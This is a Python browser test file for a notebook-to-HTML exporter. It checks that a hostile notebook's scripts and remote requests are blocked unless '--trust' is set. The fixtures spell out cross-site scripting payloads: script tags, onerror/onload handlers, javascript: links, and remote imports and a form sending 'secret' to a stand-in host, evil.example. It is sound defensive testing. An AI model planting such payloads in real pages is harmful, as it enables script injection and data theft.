"""A received notebook full of active and remote content, written by `bertviz-lab html` and opened in headless
Chromium from disk: none of the notebook's scripts runs (no mark on window, no title change, no dialog, no navigation),
no request leaves the page's own folder, and the panel's static copy is drawn. The same notebook with --trust runs its
inline scripts (the documented behaviour). Every request is logged, and everything outside the folder is aborted.
"""

from __future__ import annotations

import base64
from pathlib import Path

import nbformat
import pytest
import torch
from tiny_models import tiny_config

from bertviz_lab.cli import main
from bertviz_lab.model import BERT_Weights, BERTForPreTraining, BERTTokenizerFast
from bertviz_lab.widgets import AttentionPanel
from bertviz_lab.widgets.notebook_html import POLICY_META

pytestmark = [pytest.mark.browser, pytest.mark.needs_program("chromium")]

# Each hostile piece marks what it managed: window.__pwned gets its name, the title changes, a dialog opens.
RAN = "(window.__pwned = (window.__pwned || []).concat('{}'), document.title = 'pwned', alert('{}'))"
PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d49444154789c6300010000050001a5f645400000000049454e44ae426082")
HTML_OUTPUT = f"""
<p>html output</p>
<script>{RAN.format('html script', 'html script')}</script>
<img src="missing.png" onerror="{RAN.format('img onerror', 'img onerror')}">
<svg width="20" height="20" onload="{RAN.format('svg onload', 'svg onload')}"><rect width="20" height="20"/></svg>
<a id="js-link" href="javascript:{RAN.format('html link', 'html link')}">html link</a>
<img src="https://evil.example/remote.png"><img src="../outside.png">
<iframe src="https://evil.example/frame.html"></iframe>
<iframe srcdoc="<script>parent.{RAN.format('srcdoc', 'srcdoc')}</script>"></iframe>
<link rel="stylesheet" href="https://evil.example/sheet.css">
<style>@import url(https://evil.example/import.css); .bg {{ background: url(https://evil.example/bg.png) }}</style>
<div class="bg" style="border-image: url(https://evil.example/border.png) 30">styled</div>
<meta http-equiv="refresh" content="1; url=https://evil.example/refresh">
<form action="https://evil.example/steal"><input name="q" value="secret"><button id="send">send</button></form>
<object data="https://evil.example/object.swf"></object><embed src="https://evil.example/embed.swf">
"""
SVG_OUTPUT = (f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="{RAN.format("svg", "svg")}">'
              f'<script>{RAN.format("svg script", "svg script")}</script><rect width="10" height="10"/></svg>')
MARKDOWN = (f"# A received notebook\n\n<script>{RAN.format('markdown script', 'markdown script')}</script>\n\n"
            f"[markdown link](javascript:{RAN.format('markdown link', 'markdown link')})\n\n"
            "![remote](https://evil.example/markdown.png) ![local](inside.png)\n")


CLICKS = ("#js-link", "text=markdown link", "#send")  # links and a submit button: none may run or send anything


def hostile_notebook(folder: Path, static_copy: dict) -> Path:
    cells = [
        nbformat.v4.new_markdown_cell(MARKDOWN),
        nbformat.v4.new_code_cell("hostile()", execution_count=1, outputs=[
            nbformat.v4.new_output("display_data", data={"text/html": HTML_OUTPUT, "text/plain": "html"}),
            nbformat.v4.new_output("display_data", data={"application/javascript": RAN.format("js output",
                                                                                              "js output")}),
            nbformat.v4.new_output("display_data", data={"image/svg+xml": SVG_OUTPUT})]),
        nbformat.v4.new_code_cell("AttentionPanel(...)", execution_count=2, outputs=[
            nbformat.v4.new_output("display_data", data=static_copy)]),
    ]
    folder.mkdir()
    (folder / "inside.png").write_bytes(PNG)  # a file beside the page: it may load
    (folder.parent / "outside.png").write_bytes(PNG)  # one beside the folder: it may not
    path = folder / "received.ipynb"
    nbformat.write(nbformat.v4.new_notebook(cells=cells), path)
    return path


@pytest.fixture(scope="module")
def static_copy() -> dict:
    """A real panel's static copy: the attention heatmap of a tiny model (inline SVG with its <style>)."""
    tokenizer = BERTTokenizerFast.from_pretrained(BERT_Weights.DEFAULT.path)
    torch.manual_seed(0)
    model = BERTForPreTraining(tiny_config(vocab_size=tokenizer.vocab_size)).eval()
    return AttentionPanel(model=model, tokenizer=tokenizer, text="The cat sat on the mat.").static_copy.bundle()


# What the page did: marks left by scripts, its title and address, and how the static copy's SVG is drawn.
STATE = """() => {
  const svg = document.querySelector('[data-bvl-static] svg');
  const box = svg ? svg.getBoundingClientRect() : {width: 0, height: 0};
  return {pwned: window.__pwned || [], title: document.title, url: location.href,
          svg: {width: box.width, height: box.height, shapes: svg ? svg.querySelectorAll('rect').length : 0},
          notes: [...document.querySelectorAll('.bvl-removed')].map((n) => n.textContent),
          local: [...document.images].filter((i) => i.getAttribute('src') === 'inside.png')
                                     .map((i) => i.complete && i.naturalWidth)};
}"""


def open_page(chromium, page_path: Path, clicks: tuple[str, ...] = ()) -> dict:
    """Open the page from disk with every request logged (those outside its folder aborted) and every dialog and
    console line kept; click the given elements; return what happened."""
    folder = page_path.parent.as_uri() + "/"
    context = chromium.new_context(viewport={"width": 1200, "height": 900})
    requests, aborted, dialogs, console = [], [], [], []

    def route(intercepted):
        if intercepted.request.url.startswith(folder):
            intercepted.continue_()
        else:
            aborted.append(intercepted.request.url)
            intercepted.abort()

    try:
        context.route("**/*", route)
        context.on("request", lambda request: requests.append(request.url))
        page = context.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.on("console", lambda message: console.append(message.text))
        page.goto(page_path.as_uri(), wait_until="load")
        loaded = page.evaluate(STATE)
        for selector in clicks:
            page.locator(selector).first.click(timeout=5000, no_wait_after=True)
        page.wait_for_timeout(2000)  # the meta refresh would fire after 1 s
        settled = page.evaluate(STATE)
    finally:
        context.close()
    return {"loaded": loaded, **settled, "requests": requests, "aborted": aborted, "dialogs": dialogs,
            "console": console, "folder": folder}


def write_page(notebook: Path, *flags: str) -> Path:
    page = notebook.with_name(f"{notebook.stem}{''.join(flags).replace('-', '_')}.html")
    assert main(["html", str(notebook), "--output", str(page), *flags]) == 0
    return page


def assert_nothing_ran_or_left(seen: dict, page: Path) -> None:
    assert seen["pwned"] == [] and seen["dialogs"] == [], seen
    assert seen["title"] == "received" and seen["url"] == page.as_uri(), seen
    outside = [url for url in seen["requests"] if not url.startswith(seen["folder"]) and not url.startswith("data:")]
    assert outside == [] and seen["aborted"] == [], outside + seen["aborted"]
    assert seen["folder"] + "inside.png" in seen["requests"] and seen["local"] == [1], "the file beside it loads"
    assert seen["loaded"] == {key: value for key, value in seen.items() if key in seen["loaded"]}, "nothing changed"
    assert seen["svg"]["width"] > 100 and seen["svg"]["height"] > 50 and seen["svg"]["shapes"] > 10, seen["svg"]
    assert "remote image removed: evil.example" in seen["notes"], seen["notes"]
    assert "embedded content removed: evil.example" in seen["notes"], seen["notes"]


def test_a_received_notebooks_page_runs_and_fetches_nothing(chromium, tmp_path, static_copy):
    notebook = hostile_notebook(tmp_path / "shared", static_copy)
    page = write_page(notebook)
    seen = open_page(chromium, page, clicks=CLICKS)
    assert_nothing_ran_or_left(seen, page)
    # The sanitiser alone is enough: the same page without its Content-Security-Policy does no more.
    bare = page.with_name("received_no_policy.html")
    bare.write_text(page.read_text(encoding="utf-8").replace(f"\n{POLICY_META}", ""), encoding="utf-8")
    assert POLICY_META not in bare.read_text(encoding="utf-8")
    seen_bare = open_page(chromium, bare, clicks=CLICKS)
    assert_nothing_ran_or_left(seen_bare, bare)
    svg_output = base64.b64decode(page.read_text(encoding="utf-8").split("data:image/svg+xml;base64,")[1]
                                  .split('"')[0]).decode("utf-8")
    assert "<rect" in svg_output and "pwned" not in svg_output


def test_with_trust_the_notebooks_inline_scripts_run(chromium, tmp_path, static_copy):
    notebook = hostile_notebook(tmp_path / "trusted", static_copy)
    page = write_page(notebook, "--trust")
    seen = open_page(chromium, page)
    ran = {"html script", "markdown script", "js output", "img onerror"}
    assert ran <= set(seen["dialogs"]) and ran <= set(seen["loaded"]["pwned"]), seen["dialogs"]
    assert seen["loaded"]["title"] == "pwned"
    assert "https://evil.example/remote.png" in seen["aborted"], "its remote images are asked for (aborted here)"
    assert "https://evil.example/refresh" in seen["aborted"], "and its meta refresh leaves the page"
    assert seen["loaded"]["svg"]["width"] > 100 and seen["loaded"]["svg"]["shapes"] > 10, "the copy draws either way"
